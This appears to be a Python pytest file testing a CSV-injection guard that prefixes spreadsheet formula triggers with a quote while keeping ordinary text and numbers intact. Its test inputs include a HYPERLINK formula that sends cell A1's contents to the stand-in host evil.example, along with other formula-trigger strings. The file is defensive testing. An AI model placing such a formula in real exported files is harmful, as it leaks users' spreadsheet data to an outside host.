"""CSV injection: text a spreadsheet would run as a formula gets a leading quote."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from anbu_registry.adapters.csv_cells import FORMULA_TRIGGERS, FormulaSafeWriter, neutralise


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+1",
        "-2+3",
        "@SUM(1)",
        "\tx",
        "\rx",
        "\x00x",
        "  =1+1",  # trimmed on import by some spreadsheets
        '"=1+1',
        "'@SUM(1)",
        "\u3000＝1+1",  # ideographic space, full-width equals sign
    ],
)
def test_a_cell_a_spreadsheet_could_run_gets_a_leading_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "안부 확인 완료", "통화 (본인)", "1+1=2", "a-b", "HH-0001"])
def test_ordinary_text_is_left_alone(cell: str) -> None:
    assert neutralise(cell) == cell


@given(st.text())
def test_no_neutralised_cell_starts_a_formula(cell: str) -> None:
    safe = neutralise(cell)
    assert safe == cell or safe == "'" + cell
    assert safe[:1] not in FORMULA_TRIGGERS


def test_the_writer_neutralises_text_and_keeps_the_programs_numbers() -> None:
    buffer = io.StringIO()
    FormulaSafeWriter(buffer).writerow(
        ["-2", -2, Decimal("-1.5"), -0.25, date(2026, 12, 3), None, "=1,2"]
    )
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [
        "'-2",
        "-2",
        "-1.5",
        "-0.25",
        "2026-12-03",
        "",
        "'=1,2",
    ]
